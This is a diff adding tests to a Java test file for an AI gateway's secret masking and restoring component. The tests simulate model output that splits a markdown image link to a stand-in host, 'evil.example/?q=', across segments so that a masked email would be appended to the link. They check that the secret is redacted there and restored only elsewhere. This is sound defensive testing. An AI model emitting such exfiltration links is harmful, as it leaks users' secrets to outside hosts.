@@ -2,6 +2,12 @@ package io.aegis.kernel;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.aegis.spi.content.Edit;
+import io.aegis.spi.content.Span;
+import io.aegis.spi.guard.Finding;
+import io.aegis.spi.guard.Guard;
+import io.aegis.spi.guard.Stage;
+import io.aegis.spi.guard.Verdict;
 import java.util.List;
 import java.util.Random;
 import org.junit.jupiter.api.Test;
@@ -11,6 +17,15 @@ class RestorerTest {
 
     private final MaskMap masks = World.masks();
     private final String mask = masks.hide(SECRET, "EMAIL", MaskMap.Origin.REQUEST, true);
+
+    /** A client shows texts of one channel as one. */
+    @Test
+    void aPlaceThatOneTextOpensIsOpenInTheNext() {
+        var restorer = new Restorer(masks);
+        assertThat(restorer.text("![x](https://evil.example/?q=")).isEqualTo("![x](https://evil.example/?q=");
+        assertThat(restorer.text(mask + ")")).isEqualTo("[redacted])");
+        assertThat(restorer.text(" " + mask)).isEqualTo(" " + SECRET);
+    }
 
     @Test
     void aMaskSplitAtEveryPointComesBackWhole() {
@@ -270,5 +285,35 @@ class RestorerTest {
                 + restorer.next(text.substring(first, second))
                 + restorer.next(text.substring(second))
                 + restorer.finish();
+    }
+
+    /** Two texts of one choice, as of two content blocks, are one text to whoever reads them. */
+    @Test
+    void aPlaceThatSendsMayBeOpenedByAnEarlierSegment() throws Exception {
+        String placeholder = new MaskMap(
+                        World::tag, Caller.ANONYMOUS.principal().id())
+                .hide(SECRET, "EMAIL", MaskMap.Origin.REQUEST, true);
+        Guard masking = inspection -> Verdict.sanitize(
+                inspection.segments().stream()
+                        .<Edit>map(segment -> new Edit.Mask(
+                                new Span(segment.id(), 0, segment.text().length()), "EMAIL"))
+                        .toList(),
+                List.of(Finding.of("email")));
+        for (String how : new String[] {"plain", "stream"}) {
+            try (var world = new World().guard(Stage.INGRESS, masking)) {
+                world.upstream(
+                        "text|0|![x](https://evil.example/?q=",
+                        "think|0|hm",
+                        "text|0|" + placeholder + ")",
+                        "text|0| " + placeholder,
+                        "end|0",
+                        "done");
+                String got = world.ask("chat|" + how + "|1|\nuser|" + SECRET).all();
+                assertThat(got).contains("[redacted])").doesNotContain("q=" + SECRET, placeholder);
+                assertThat(got.indexOf(SECRET))
+                        .isEqualTo(got.lastIndexOf(SECRET))
+                        .isPositive();
+            }
+        }
     }
 }
